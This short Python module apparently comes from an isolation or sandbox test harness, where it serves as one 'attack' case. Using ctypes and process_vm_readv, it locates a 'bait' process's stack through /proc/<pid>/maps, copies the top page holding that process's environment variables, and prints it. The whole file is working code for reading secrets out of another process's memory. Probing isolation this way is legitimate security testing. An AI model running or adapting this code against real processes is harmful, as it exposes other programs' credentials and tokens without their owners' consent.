"""Uses `process_vm_readv` to copy the stack of another process, which holds that process's environment."""

import ctypes


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(facts: dict[str, str]) -> None:
    libc, pid = ctypes.CDLL(None, use_errno=True), int(facts["bait"])
    with open(f"/proc/{pid}/maps") as maps:
        line = next(line for line in maps if "[stack]" in line)
    last = int(line.split()[0].split("-")[1], 16)
    here = ctypes.create_string_buffer(4096)
    ours, theirs = Part(ctypes.addressof(here), 4096), Part(last - 4096, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "not read")
    print(here.raw.replace(b"\0", b" "))
